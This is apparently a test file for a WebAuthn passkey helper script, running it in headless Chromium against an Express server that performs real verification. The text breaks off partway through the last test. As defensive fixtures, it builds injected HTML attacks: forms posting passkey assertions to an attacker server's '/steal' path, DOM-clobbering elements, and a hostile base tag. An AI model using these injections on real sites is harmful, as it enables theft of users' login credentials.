/**
 * The browser helper (`webauthn.js`, SPEC section 3) in a real Chromium with a CDP virtual authenticator.
 *
 * A small Express app serves the script (under the mount path `/auth`, as the router would be mounted) and
 * server-rendered pages holding the flow's nodes in a form posting to `/auth/self-service/<flow>?flow=<case>`; that
 * handler records each posted form and verifies the credential in it with @simplewebauthn/server (real verification).
 * A second listener of the same app gives a second origin (a page loading the script cross-origin), and a third
 * server plays the attacker's, recording whatever reaches it (HTML injected into a page must not get a ceremony's
 * result there).
 *
 * Run: npx tsx --test test/browser/webauthn-script.test.ts   (needs /usr/bin/chromium)
 */
import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { existsSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import {
  generateAuthenticationOptions,
  generateRegistrationOptions,
  verifyAuthenticationResponse,
  verifyRegistrationResponse,
  type WebAuthnCredential,
} from '@simplewebauthn/server';
import { cose, decodeClientDataJSON, decodeCredentialPublicKey } from '@simplewebauthn/server/helpers';
import express from 'express';
import { type Browser, type BrowserContext, type CDPSession, chromium, type Page } from 'playwright-core';
import { scriptIntegrity, WEBAUTHN_SCRIPT } from '../../src/ui/webauthn-script.js';

const CHROMIUM = '/usr/bin/chromium';
const MOUNT = '/auth';
const SCRIPT_PATH = `${MOUNT}/.well-known/ory/webauthn.js`;
const CSRF = 'csrf-token-value';
const NONCE = 'abc';

// ---- the test server --------------------------------------------------------------------------------------------

type Kind = 'registration' | 'settings' | 'login';

interface Ceremony {
  kind: Kind;
  userId?: string;
}

interface StoredCredential {
  credential: WebAuthnCredential;
  userId: string;
}

interface Submission {
  caseId: string;
  body: Record<string, string>;
  kind?: Kind;
  verified: boolean;
  error?: string;
  credentialId?: string;
  userHandle?: string;
  alg?: number;
}

const ceremonies = new Map<string, Ceremony>();
const credentials = new Map<string, StoredCredential>();
const submissions: Submission[] = [];
/** Pre-checks before create(): registration (`method=profile`) and settings (`method=passkey`, nothing else). */
const prechecks: { caseId: string; body: Record<string, string>; accept: string }[] = [];
let origin = '';
/** A second origin for the same app (another port of localhost). */
let origin2 = '';
/** The attacker's server: every request it receives. */
let evilOrigin = '';
const evilHits: { method: string; url: string; body: Record<string, string> }[] = [];
/** Posts that reached the app outside its flow actions. */
const strayPosts: { url: string; body: Record<string, string> }[] = [];

function esc(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}

interface PageOptions {
  caseId: string;
  /** `attr`: the trigger carries data-onclicktrigger; `name`: only its name identifies it. */
  trigger?: 'attr' | 'name' | 'inline';
  /** Serve under `script-src 'nonce-abc'`. */
  csp?: boolean;
  /** Load the script twice. */
  twice?: boolean;
  /** A UI library's submit handler and an input named "submit" shadowing form.submit. */
  lib?: boolean;
  /** Render the form 100 ms after load, as a client-side UI library would. */
  late?: boolean;
  /** Integrity attribute to use instead of the right one. */
  integrity?: string;
  /** The form's action is absolute (`<origin>/auth/self-service/...`) instead of relative. */
  abs?: boolean;
  /** The script and the form's action are on the other origin (`xo=1`; with `rel=1` the action stays relative). */
  xo?: boolean;
  rel?: boolean;
  /** Markup an attacker injected into the page (see `injection()`). */
  inject?: string;
  /** The script's response is delayed by this many ms. */
  delay?: number;
}

function scriptTags(o: PageOptions): string {
  const nonce = o.csp ? ` nonce="${NONCE}"` : '';
  const integrity = o.integrity ?? scriptIntegrity();
  const src = `${o.xo ? scriptOrigin(o) : ''}${SCRIPT_PATH}${o.delay ? `?delay=${o.delay}` : ''}`;
  const tag = `<script id="webauthn_script" src="${esc(src)}" async crossorigin="anonymous" integrity="${esc(integrity)}" referrerpolicy="no-referrer" type="text/javascript"${nonce}></script>`;
  return o.twice ? tag + '\n' + tag.replace('id="webauthn_script"', 'id="webauthn_script_2"') : tag;
}

function triggerButton(o: PageOptions, name: string, fn: string, label: string): string {
  const data = o.trigger === 'name' ? '' : ` data-onclicktrigger="${fn}"`;
  const inline = o.trigger === 'inline' ? ` onclick="window.__${fn}()"` : '';
  return `<button type="button" name="${name}" value=""${data}${inline}><span class="icon">*</span> ${label}</button>`;
}

/** The origin the script (and so the flow actions) is on: the other one of the two app origins when `xo`. */
function scriptOrigin(o: PageOptions): string {
  return o.xo ? origin : '';
}

/** The form's action: `/auth/self-service/<kind>?flow=<case id>`, relative unless `abs`/`xo` (without `rel`). */
function actionOf(o: PageOptions, kind: Kind): string {
  const path = `${MOUNT}/self-service/${kind}?flow=${encodeURIComponent(o.caseId)}`;
  if (o.xo) return o.rel ? path : `${scriptOrigin(o)}${path}`;
  return o.abs ? `${origin}${path}` : path;
}

/** An attacker's login form (a challenge of their own flow, unknown to this server), for `inject`. */
function attackerForm(id: string, action: string, opts: { method?: string; onload?: boolean; submit?: boolean }) {
  const challenge = JSON.stringify({
    publicKey: { challenge: randomBytes(32).toString('base64url'), rpId: 'localhost', userVerification: 'preferred' },
  });
  const onload = opts.onload ? ' data-onloadtrigger="oryPasskeyLoginAutocompleteInit"' : '';
  const button = opts.submit
    ? `<button type="submit" data-onclicktrigger="oryPasskeyLogin">Sign in with passkey (${id})</button>`
    : `<button type="button" name="passkey_login_trigger">Sign in with passkey (${id})</button>`;
  return `<form id="${id}" action="${esc(action)}" method="${opts.method ?? 'POST'}">
<input type="hidden" name="passkey_challenge" value="${esc(challenge)}">
<input type="hidden" name="passkey_login"${onload}>
${button}
</form>`;
}

/**
 * HTML an attacker injected into the page (no script runs: it is markup only), before and after the flow form:
 * - `click`: forms posting the result elsewhere with their own triggers: another origin (the reviewer's `/steal`,
 *   and this library's own path on another origin), this origin outside the mount path, the right action without a
 *   flow parameter, the right action with method GET.
 * - `autofill`: the reviewer's autofill variant, forms asking for conditional UI (one before, one after the real one).
 * - `clobber`: named elements shadowing document.currentScript (pointing at the attacker's server) and the DOM
 *   methods the script uses, and a form posting to the attacker's copy of this library's path.
 * - `base`: a `<base href>` pointing at the attacker, after the script tag (whose src is relative), and a form with a
 *   relative action, which the base turns into the attacker's.
 */
function injection(o: PageOptions): { before: string; after: string; late: string } {
  const flow = `${MOUNT}/self-service/login?flow=attacker-flow`;
  switch (o.inject) {
    case 'click':
      return {
        before: [
          attackerForm('evil-steal', `${evilOrigin}/steal`, {}),
          attackerForm('evil-path', `${evilOrigin}${flow}`, { submit: true }),
          attackerForm('evil-same-origin', `/steal?flow=x`, {}),
        ].join('\n'),
        after: [
          attackerForm('evil-no-flow', `${MOUNT}/self-service/login`, {}),
          attackerForm('evil-get', flow, { method: 'GET' }),
        ].join('\n'),
        late: '',
      };
    case 'autofill':
      return {
        before: attackerForm('evil-before', `${evilOrigin}${flow}`, { onload: true }),
        after: attackerForm('evil-after', `${evilOrigin}/steal`, { onload: true }),
        late: '',
      };
    case 'clobber':
      return {
        before: `<img name="currentScript" src="${evilOrigin}${SCRIPT_PATH}" alt="">
<img name="getElementsByName" alt=""><img name="querySelectorAll" alt=""><img name="addEventListener" alt="">
<img name="readyState" alt=""><img name="documentElement" alt=""><img name="getElementsByTagName" alt="">
<img name="__expressPasskeysWebauthn" alt="">
${attackerForm('evil-clobber', `${evilOrigin}${flow}`, { onload: true })}`,
        after: '',
        late: '',
      };
    case 'base':
      return {
        before: '',
        after: '',
        late: `<base href="${evilOrigin}/">
${attackerForm('evil-base', flow, {})}`,
      };
    default:
      return { before: '', after: '', late: '' };
  }
}

function htmlPage(o: PageOptions, kind: Kind, title: string, formInner: string): string {
  const lib = o.lib ? `<input type="hidden" name="submit" value="shadow">` : '';
  const injected = injection(o);
  const form = `<form id="flow" method="POST" action="${esc(actionOf(o, kind))}">
  <input type="hidden" name="csrf_token" value="${CSRF}">
  ${formInner}
  ${lib}
</form>`;
  const libScript = o.lib
    ? `<script>
  window.__libSubmits = 0;
  document.getElementById('flow').addEventListener('submit', function (e) { e.preventDefault(); window.__libSubmits++; });
</script>`
    : '';
  const body = o.late
    ? `<div id="root"></div>
<template id="later">${form}</template>
<script${o.csp ? ` nonce="${NONCE}"` : ''}>
  setTimeout(function () {
    document.getElementById('root').appendChild(document.getElementById('later').content.cloneNode(true));
  }, 100);
</script>`
    : injected.before + form + libScript + injected.after;
  const canary = o.csp
    ? `<script>window.__inlineRan = true;</script>
<script nonce="${NONCE}">window.__nonceRan = true;</script>`
    : '';
  return `<!doctype html>
<html><head><meta charset="utf-8"><title>${title}</title></head>
<body>
${canary}
${body}
${scriptTags(o)}
${injected.late}
</body></html>`;
}

function caseOf(q: Record<string, unknown>): PageOptions {
  const s = (k: string) => (typeof q[k] === 'string' ? (q[k] as string) : undefined);
  return {
    caseId: s('case') ?? 'none',
    trigger: (s('trigger') as PageOptions['trigger']) ?? 'attr',
    csp: s('csp') === '1',
    twice: s('twice') === '1',
    lib: s('lib') === '1',
    late: s('late') === '1',
    integrity: s('integrity'),
    abs: s('abs') === '1',
    xo: s('xo') === '1',
    rel: s('rel') === '1',
    inject: s('inject'),
    delay: s('delay') ? Number(s('delay')) : undefined,
  };
}

function algsOf(q: Record<string, unknown>): number[] {
  return typeof q['algs'] === 'string' ? q['algs'].split(',').map(Number) : [-7, -8, -257];
}

function send(res: express.Response, o: PageOptions, html: string): void {
  if (o.csp) res.set('Content-Security-Policy', `script-src 'nonce-${NONCE}'; object-src 'none'; base-uri 'none'`);
  res.type('html').send(html);
}

function createApp(): express.Express {
  const app = express();

  app.get(SCRIPT_PATH, async (req, res) => {
    const delay = Number(req.query['delay'] ?? 0);
    if (delay > 0) await new Promise((r) => setTimeout(r, Math.min(delay, 2000)));
    // Loadable cross-origin with SRI (crossorigin="anonymous"), as the router serves it.
    res.set('Access-Control-Allow-Origin', '*');
    res.type('text/javascript; charset=utf-8').send(WEBAUTHN_SCRIPT);
  });

  // Registration, as a server-rendered UI shows the registration flow's nodes. The server does not know the traits
  // yet, so user.name/displayName are empty and the script takes them from traits.email.
  app.get('/registration', async (req, res) => {
    const o = caseOf(req.query);
    const options = await generateRegistrationOptions({
      rpName: 'Test',
      rpID: 'localhost',
      userName: 'placeholder',
      supportedAlgorithmIDs: algsOf(req.query),
      authenticatorSelection: { residentKey: 'required', userVerification: 'preferred' },
    });
    options.user.name = '';
    options.user.displayName = '';
    ceremonies.set(options.challenge, { kind: 'registration', userId: options.user.id });
    const createData = { credentialOptions: { publicKey: options }, displayNameFieldName: 'traits.email' };
    const inner = `<input type="email" name="traits.email" value="" autocomplete="email">
  <input type="hidden" name="passkey_register" value="">
  <input type="hidden" name="passkey_create_data" value="${esc(JSON.stringify(createData))}">
  ${triggerButton(o, 'passkey_register_trigger', 'oryPasskeyRegistration', 'Sign up with passkey')}`;
    send(res, o, htmlPage(o, 'registration', 'Sign up', inner));
  });

  // Settings: add a passkey to an existing identity (?user=<user id>&exclude=<credential id,...>).
  app.get('/settings', async (req, res) => {
    const o = caseOf(req.query);
    const userId = String(req.query['user']);
    const exclude = typeof req.query['exclude'] === 'string' ? req.query['exclude'].split(',') : [];
    const options = await generateRegistrationOptions({
      rpName: 'Test',
      rpID: 'localhost',
      userName: 'ada@example.com',
      userDisplayName: 'ada@example.com',
      userID: Buffer.from(userId, 'base64url'),
      supportedAlgorithmIDs: algsOf(req.query),
      excludeCredentials: exclude.map((id) => ({ id })),
      authenticatorSelection: { residentKey: 'required', userVerification: 'preferred' },
    });
    ceremonies.set(options.challenge, { kind: 'settings', userId });
    const inner = `<input type="hidden" name="passkey_settings_register" value="">
  <input type="hidden" name="passkey_create_data" value="${esc(JSON.stringify({ publicKey: options }))}">
  ${triggerButton(o, 'passkey_register_trigger', 'oryPasskeySettingsRegistration', 'Add passkey')}`;
    send(res, o, htmlPage(o, 'settings', 'Settings', inner));
  });

  // Login (?cond=attr: passkey_login carries data-onloadtrigger; ?cond=autocomplete: only the identifier's
  // autocomplete token asks for conditional UI; ?cond=0: neither, so only the button starts a ceremony).
  app.get('/login', async (req, res) => {
    const o = caseOf(req.query);
    const cond = typeof req.query['cond'] === 'string' ? req.query['cond'] : '0';
    const options = await generateAuthenticationOptions({ rpID: 'localhost', userVerification: 'preferred' });
    ceremonies.set(options.challenge, { kind: 'login' });
    const autocomplete = cond === '0' ? 'username' : 'username webauthn';
    const onload = cond === 'attr' ? ' data-onloadtrigger="oryPasskeyLoginAutocompleteInit"' : '';
    const inner = `<input type="text" name="identifier" value="" autocomplete="${autocomplete}">
  <input type="hidden" name="passkey_login" value=""${onload}>
  <input type="hidden" name="passkey_challenge" value="${esc(JSON.stringify({ publicKey: options }))}">
  ${triggerButton(o, 'passkey_login_trigger', 'oryPasskeyLogin', 'Sign in with passkey')}`;
    send(res, o, htmlPage(o, 'login', 'Sign in', inner));
  });

  // A fresh login challenge, as a client-side UI gets it with a new flow.
  app.get('/login-options', async (_req, res) => {
    const options = await generateAuthenticationOptions({ rpID: 'localhost', userVerification: 'preferred' });
    ceremonies.set(options.challenge, { kind: 'login' });
    res.json({ publicKey: options });
  });

  // Anything posted outside the flow actions (an injected form on this origin).
  app.post('/steal', express.urlencoded({ extended: false }), (req, res) => {
    strayPosts.push({ url: req.originalUrl, body: req.body as Record<string, string> });
    res.type('html').send('<!doctype html><title>stray</title>');
  });

  // The flow actions: /auth/self-service/{registration,settings,login}?flow=<case id>.
  app.post(`${MOUNT}/self-service/:kind`, express.urlencoded({ extended: false }), async (req, res) => {
    const body = req.body as Record<string, string>;
    // The registration pre-check (the flow's profile step, answered as JSON): traits.email must be filled in.
    if (req.params['kind'] === 'registration' && body['method'] === 'profile') {
      prechecks.push({ caseId: String(req.query['flow']), body, accept: String(req.headers['accept']) });
      const ok = typeof body['traits.email'] === 'string' && body['traits.email'] !== '';
      res.status(ok ? 200 : 400).json({ state: ok ? 'show_form' : 'choose_method' });
      return;
    }
    // The "Add passkey" pre-check: a passkey post with nothing in it; "nothing to do" (400) for a fresh session.
    if (req.params['kind'] === 'settings' && body['method'] === 'passkey' && !body['passkey_settings_register']) {
      prechecks.push({ caseId: String(req.query['flow']), body, accept: String(req.headers['accept']) });
      res.status(400).json({ state: 'show_form' });
      return;
    }
    const sub: Submission = { caseId: String(req.query['flow']), body, verified: false };
    try {
      const field = (['passkey_register', 'passkey_settings_register', 'passkey_login'] as const).find(
        (f) => typeof body[f] === 'string' && body[f] !== '',
      );
      if (!field) throw new Error('no credential field posted');
      const response = JSON.parse(body[field]!);
      const clientData = decodeClientDataJSON(response.response.clientDataJSON);
      const ceremony = ceremonies.get(clientData.challenge);
      if (!ceremony) throw new Error('unknown challenge');
      ceremonies.delete(clientData.challenge);
      sub.kind = ceremony.kind;
      const expectedField =
        ceremony.kind === 'login'
          ? 'passkey_login'
          : ceremony.kind === 'settings'
            ? 'passkey_settings_register'
            : 'passkey_register';
      if (field !== expectedField) throw new Error(`credential posted in ${field}, expected ${expectedField}`);
      if (ceremony.kind === 'login') {
        const stored = credentials.get(response.id);
        if (!stored) throw new Error('unknown credential');
        const v = await verifyAuthenticationResponse({
          response,
          expectedChallenge: clientData.challenge,
          expectedOrigin: [origin, origin2],
          expectedRPID: 'localhost',
          credential: stored.credential,
          requireUserVerification: true,
        });
        if (!v.verified) throw new Error('assertion not verified');
        if (response.response.userHandle !== stored.userId) throw new Error('user handle does not match');
        stored.credential.counter = v.authenticationInfo.newCounter;
        sub.credentialId = response.id;
        sub.userHandle = response.response.userHandle;
      } else {
        const v = await verifyRegistrationResponse({
          response,
          expectedChallenge: clientData.challenge,
          expectedOrigin: [origin, origin2],
          expectedRPID: 'localhost',
          requireUserVerification: true,
          supportedAlgorithmIDs: [-8, -7, -257],
        });
        if (!v.verified) throw new Error('attestation not verified');
        const cred = v.registrationInfo.credential;
        credentials.set(cred.id, { credential: cred, userId: ceremony.userId! });
        sub.credentialId = cred.id;
        sub.alg = decodeCredentialPublicKey(cred.publicKey).get(cose.COSEKEYS.alg);
      }
      sub.verified = true;
    } catch (err) {
      sub.error = (err as Error).message;
    }
    // Recorded once verified, so that a test polling for it sees the outcome.
    submissions.push(sub);
    res
      .type('html')
      .send(`<!doctype html><title>done</title><p id="result">${sub.verified ? 'verified' : 'failed'}</p>`);
  });

  return app;
}

// ---- the browser ------------------------------------------------------------------------------------------------

const LAUNCH_ARGS = [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--disable-quic',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
];

// Records every navigator.credentials call (and how it ended) through an exposed binding, across navigations.
const RECORDER = `(() => {
  const c = navigator.credentials;
  if (!c) return;
  const create = c.create.bind(c);
  const get = c.get.bind(c);
  const rec = (x) => { try { window.__recordCall(JSON.stringify(x)); } catch (e) {} };
  const wrap = (op, fn) => (o) => {
    const mediation = (o && o.mediation) || 'optional';
    rec({ op, mediation, phase: 'call' });
    return fn(o).then(
      (v) => { rec({ op, mediation, phase: 'ok' }); return v; },
      (e) => { rec({ op, mediation, phase: 'error', error: e && e.name }); throw e; },
    );
  };
  c.create = wrap('create', create);
  c.get = wrap('get', get);
})();`;

// Takes away the JSON helpers, so that the script's own base64url decoder and encoder are used.
const NO_JSON_HELPERS = `(() => {
  if (typeof PublicKeyCredential !== 'function') return;
  delete PublicKeyCredential.parseCreationOptionsFromJSON;
  delete PublicKeyCredential.parseRequestOptionsFromJSON;
  delete PublicKeyCredential.prototype.toJSON;
})();`;

interface Call {
  op: 'create' | 'get';
  mediation: string;
  phase: 'call' | 'ok' | 'error';
  error?: string;
}

interface Tab {
  context: BrowserContext;
  page: Page;
  cdp: CDPSession;
  authenticatorId: string;
  calls: Call[];
  warnings: string[];
  errors: string[];
}

let browser: Browser;
let base = '';
let server: ReturnType<express.Express['listen']>;
let server2: ReturnType<express.Express['listen']>;
let evilServer: ReturnType<express.Express['listen']>;

async function listenOn(app: express.Express): Promise<{ s: ReturnType<express.Express['listen']>; url: string }> {
  const s = app.listen(0, 'localhost');
  await new Promise<void>((resolve, reject) => {
    s.once('listening', resolve);
    s.once('error', reject);
  });
  return { s, url: `http://localhost:${(s.address() as AddressInfo).port}` };
}

/** The attacker's server: records every request (a stolen assertion would arrive here). */
function createEvilApp(): express.Express {
  const app = express();
  app.use(express.urlencoded({ extended: false }), (req, res) => {
    evilHits.push({ method: req.method, url: req.originalUrl, body: (req.body ?? {}) as Record<string, string> });
    res.status(404).type('text/plain').send('evil');
  });
  return app;
}
const tabs: Tab[] = [];

async function openTab(opts: { noJsonHelpers?: boolean } = {}): Promise<Tab> {
  const context = await browser.newContext();
  const page = await context.newPage();
  const calls: Call[] = [];
  const warnings: string[] = [];
  const errors: string[] = [];
  await page.exposeFunction('__recordCall', (s: string) => {
    calls.push(JSON.parse(s) as Call);
  });
  await page.addInitScript(RECORDER);
  if (opts.noJsonHelpers) await page.addInitScript(NO_JSON_HELPERS);
  page.on('console', (m) => {
    if (m.type() === 'warning') warnings.push(m.text());
  });
  page.on('pageerror', (e) => errors.push(e.message));
  const cdp = await context.newCDPSession(page);
  await cdp.send('WebAuthn.enable');
  const { authenticatorId } = await cdp.send('WebAuthn.addVirtualAuthenticator', {
    options: {
      protocol: 'ctap2',
      transport: 'internal',
      hasResidentKey: true,
      hasUserVerification: true,
      isUserVerified: true,
    },
  });
  const tab = { context, page, cdp, authenticatorId, calls, warnings, errors };
  tabs.push(tab);
  return tab;
}

/** Click on a trigger until the post's response page has loaded (ceremony + post + server verification), ms. */
const clickToPost: number[] = [];

let caseCounter = 0;
function newCase(label: string): string {
  caseCounter += 1;
  return `${label}-${caseCounter}`;
}

/** The page is the response of a post to a flow action. */
const isFlowPost = (u: URL) => u.pathname.startsWith(`${MOUNT}/self-service/`);

function submissionsOf(caseId: string): Submission[] {
  return submissions.filter((s) => s.caseId === caseId);
}

async function loaded(tab: Tab): Promise<void> {
  await tab.page.waitForFunction('typeof window.oryPasskeyRegistration === "function"', null, { timeout: 5000 });
}

/** Opens a page, waits for the script, clicks the trigger, waits for the post; returns the one submission. */
async function clickAndSubmit(tab: Tab, path: string, caseId: string, before?: () => Promise<void>) {
  await tab.page.goto(base + path);
  await loaded(tab);
  if (before) await before();
  const t0 = Date.now();
  await Promise.all([
    tab.page.waitForURL(isFlowPost, { timeout: 5000 }),
    tab.page.click('#flow button[name$="_trigger"]'),
  ]);
  clickToPost.push(Date.now() - t0);
  const subs = submissionsOf(caseId);
  assert.equal(subs.length, 1, 'exactly one form post');
  return subs[0]!;
}

function assertVerified(sub: Submission): void {
  assert.equal(sub.error, undefined, 'server-side verification error');
  assert.equal(sub.verified, true);
}

/** Registers a passkey for ada@example.com in this tab; returns the server's credential id and user id. */
async function register(tab: Tab, algs = '-7,-8,-257'): Promise<{ credentialId: string; userId: string }> {
  const caseId = newCase('setup-registration');
  const sub = await clickAndSubmit(tab, `/registration?case=${caseId}&algs=${algs}`, caseId, () =>
    tab.page.fill('input[name="traits.email"]', 'ada@example.com'),
  );
  assertVerified(sub);
  return { credentialId: sub.credentialId!, userId: credentials.get(sub.credentialId!)!.userId };
}

async function waitFor(predicate: () => boolean, what: string, ms = 5000): Promise<void> {
  const until = Date.now() + ms;
  while (!predicate()) {
    if (Date.now() > until) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 10));
  }
}

// ---- tests ------------------------------------------------------------------------------------------------------

const skip = existsSync(CHROMIUM) ? false : `${CHROMIUM} is missing`;

describe('webauthn.js in Chromium', { skip }, () => {
  before(async () => {
    const t0 = Date.now();
    const app = createApp();
    ({ s: server, url: origin } = await listenOn(app));
    ({ s: server2, url: origin2 } = await listenOn(app));
    ({ s: evilServer, url: evilOrigin } = await listenOn(createEvilApp()));
    base = origin;
    browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: LAUNCH_ARGS });
    console.log(`# server + Chromium launch: ${Date.now() - t0} ms`);
  });

  after(async () => {
    if (clickToPost.length) {
      const sorted = [...clickToPost].sort((a, b) => a - b);
      const median = sorted[Math.floor(sorted.length / 2)];
      console.log(`# click -> verified post: n=${sorted.length} median ${median} ms, max ${sorted.at(-1)} ms`);
    }
    for (const t of tabs) await t.context.close().catch(() => {});
    await browser?.close();
    await new Promise((r) => server?.close(r));
    await new Promise((r) => server2?.close(r));
    await new Promise((r) => evilServer?.close(r));
  });

  test('the served bytes match scriptIntegrity(), and the browser enforces it', async () => {
    const tab = await openTab();
    await tab.page.goto(`${base}/registration?case=${newCase('integrity')}`);
    await loaded(tab);
    const served = await tab.page.evaluate(`fetch('${SCRIPT_PATH}').then((r) => r.text())`);
    const digest = 'sha512-' + createHash('sha512').update(String(served), 'utf8').digest('base64');
    assert.equal(digest, scriptIntegrity());
    assert.equal(scriptIntegrity(), scriptIntegrity());
    assert.match(scriptIntegrity(), /^sha512-[A-Za-z0-9+/]{86}==$/);
    assert.ok(
      [...WEBAUTHN_SCRIPT].every((ch) => ch === '\n' || (ch >= ' ' && ch <= '~')),
      'the script is printable ASCII (so the served UTF-8 bytes are the hashed ones)',
    );
    for (const name of [
      'oryPasskeyRegistration',
      'oryPasskeyLogin',
      'oryPasskeyLoginAutocompleteInit',
      'oryPasskeySettingsRegistration',
    ]) {
      assert.equal(await tab.page.evaluate(`typeof window.${name}`), 'function', name);
      assert.equal(await tab.page.evaluate(`typeof window.__${name}`), 'function', `__${name}`);
    }

    // A wrong hash: the browser refuses the script, so nothing is defined (the integrity attribute is live).
    const wrong = 'sha512-' + createHash('sha512').update('something else').digest('base64');
    await tab.page.goto(`${base}/registration?case=${newCase('bad-integrity')}&integrity=${encodeURIComponent(wrong)}`);
    await tab.page.waitForTimeout(200);
    assert.equal(await tab.page.evaluate('typeof window.oryPasskeyRegistration'), 'undefined');
  });

  test('registration (ES256 first) posts a credential that verifies, named from traits.email', async () => {
    const tab = await openTab();
    const caseId = newCase('registration-es256');
    const sub = await clickAndSubmit(tab, `/registration?case=${caseId}&algs=-7,-8,-257`, caseId, () =>
      tab.page.fill('input[name="traits.email"]', 'ada@example.com'),
    );
    assertVerified(sub);
    assert.equal(sub.kind, 'registration');
    assert.equal(sub.alg, -7);
    assert.equal(sub.body['csrf_token'], CSRF);
    assert.equal(sub.body['traits.email'], 'ada@example.com');
    assert.ok(!('passkey_register_trigger' in sub.body), 'the trigger button is not posted');
    const posted = JSON.parse(sub.body['passkey_register']!);
    assert.equal(posted.type, 'public-key');
    assert.equal(posted.id, posted.rawId);
    assert.equal(posted.response.publicKeyAlgorithm, -7);
    const { credentials: onAuthenticator } = await tab.cdp.send('WebAuthn.getCredentials', {
      authenticatorId: tab.authenticatorId,
    });
    assert.equal(onAuthenticator.length, 1);
    assert.equal(onAuthenticator[0]!.userName, 'ada@example.com', 'user.name filled from the display-name trait');
    assert.equal(Buffer.from(onAuthenticator[0]!.credentialId, 'base64').toString('base64url'), sub.credentialId);
    assert.deepEqual(tab.errors, []);
    assert.deepEqual(
      tab.calls.filter((c) => c.phase === 'call'),
      [{ op: 'create', mediation: 'optional', phase: 'call' }],
    );
  });

  test('registration (EdDSA first) with a trigger identified only by its name', async () => {
    const tab = await openTab();
    const caseId = newCase('registration-eddsa');
    const sub = await clickAndSubmit(tab, `/registration?case=${caseId}&algs=-8,-7,-257&trigger=name`, caseId, () =>
      tab.page.fill('input[name="traits.email"]', 'grace@example.com'),
    );
    assertVerified(sub);
    assert.equal(sub.alg, -8);
    assert.equal(JSON.parse(sub.body['passkey_register']!).response.publicKeyAlgorithm, -8);
    assert.ok(!('passkey_register_trigger' in sub.body));
    assert.deepEqual(tab.errors, []);
  });

  for (const [label, algs] of [
    ['ES256', '-7,-8,-257'],
    ['EdDSA', '-8,-7,-257'],
  ] as const) {
    test(`login with the button posts an assertion that verifies (${label} passkey, ${label === 'EdDSA' ? 'absolute' : 'relative'} action)`, async () => {
      const tab = await openTab();
      const { credentialId, userId } = await register(tab, algs);
      const caseId = newCase(`login-${label}`);
      const abs = label === 'EdDSA' ? '&abs=1' : '';
      const sub = await clickAndSubmit(tab, `/login?case=${caseId}&cond=0${abs}`, caseId);
      assertVerified(sub);
      assert.equal(sub.kind, 'login');
      assert.equal(sub.credentialId, credentialId);
      assert.equal(sub.userHandle, userId);
      assert.equal(sub.body['csrf_token'], CSRF);
      assert.equal(sub.body['identifier'], '');
      assert.ok(!('passkey_login_trigger' in sub.body));
      assert.deepEqual(tab.errors, []);
    });
  }

  test('settings registration posts into passkey_settings_register', async () => {
    const tab = await openTab();
    const { credentialId, userId } = await register(tab, '-8,-7,-257');
    for (const trigger of ['attr', 'name'] as const) {
      const caseId = newCase(`settings-${trigger}`);
      const sub = await clickAndSubmit(tab, `/settings?case=${caseId}&user=${userId}&trigger=${trigger}`, caseId);
      assertVerified(sub);
      assert.equal(sub.kind, 'settings');
      assert.equal(sub.alg, -7);
      assert.ok(sub.body['passkey_settings_register']);
      assert.ok(!('passkey_register' in sub.body));
      assert.notEqual(sub.credentialId, credentialId);
    }
    assert.deepEqual(tab.errors, []);
  });

  test('under a nonce-only CSP (script-src nonce) the script binds and works without inline handlers', async () => {
    const tab = await openTab();
    await tab.page.addInitScript(`window.__violations = [];
document.addEventListener('securitypolicyviolation', (e) => {
  window.__violations.push(e.violatedDirective + ' ' + e.blockedURI + ' ' + e.lineNumber);
});`);
    const caseId = newCase('csp');
    await tab.page.goto(`${base}/registration?case=${caseId}&csp=1`);
    await loaded(tab);
    // The policy is live: the inline canary without the nonce was blocked, the one with it ran.
    assert.equal(await tab.page.evaluate('window.__inlineRan'), undefined);
    assert.equal(await tab.page.evaluate('window.__nonceRan'), true);
    await tab.page.fill('input[name="traits.email"]', 'csp@example.com');
    await Promise.all([
      tab.page.waitForURL(isFlowPost, { timeout: 5000 }),
      tab.page.click('button[name="passkey_register_trigger"]'),
    ]);
    const subs = submissionsOf(caseId);
    assert.equal(subs.length, 1);
    assertVerified(subs[0]!);
    assert.deepEqual(tab.errors, []);

    // The same with a late-rendered form (the nonce'd UI script inserts it) and a login by the button.
    const caseId2 = newCase('csp-late-login');
    const sub = await clickAndSubmit(tab, `/login?case=${caseId2}&cond=0&csp=1&late=1`, caseId2, () =>
      tab.page.waitForSelector('button[name="passkey_login_trigger"]').then(() => undefined),
    );
    assertVerified(sub);
    assert.deepEqual(tab.errors, []);
  });

  test('a second load of the script does not bind twice: one ceremony, one post', async () => {
    const tab = await openTab();
    const caseId = newCase('twice');
    const sub = await clickAndSubmit(tab, `/registration?case=${caseId}&twice=1`, caseId, async () => {
      assert.equal(await tab.page.locator('script[src$="webauthn.js"]').count(), 2);
      await tab.page.fill('input[name="traits.email"]', 'twice@example.com');
    });
    assertVerified(sub);
    await tab.page.waitForTimeout(300);
    assert.equal(submissionsOf(caseId).length, 1, 'no second post');
    assert.deepEqual(
      tab.calls.filter((c) => c.phase === 'call'),
      [{ op: 'create', mediation: 'optional', phase: 'call' }],
      'navigator.credentials.create called once',
    );
    assert.deepEqual(tab.errors, []);
  });

  test('a Kratos-style inline onclick on top of the delegated binding still runs one ceremony', async () => {
    const tab = await openTab();
    const caseId = newCase('inline');
    const sub = await clickAndSubmit(tab, `/registration?case=${caseId}&trigger=inline`, caseId, () =>
      tab.page.fill('input[name="traits.email"]', 'inline@example.com'),
    );
    assertVerified(sub);
    await tab.page.waitForTimeout(200);
    assert.equal(submissionsOf(caseId).length, 1);
    assert.equal(tab.calls.filter((c) => c.phase === 'call').length, 1);
    assert.deepEqual(tab.errors, []);
  });

  test('submits natively: no submit event for a UI library, an input named "submit" does not shadow it', async () => {
    const tab = await openTab();
    const caseId = newCase('lib');
    const sub = await clickAndSubmit(tab, `/registration?case=${caseId}&lib=1`, caseId, () =>
      tab.page.fill('input[name="traits.email"]', 'lib@example.com'),
    );
    assertVerified(sub);
    assert.equal(sub.body['submit'], 'shadow');
    assert.ok(!('passkey_register_trigger' in sub.body), 'the trigger name/value is not required');
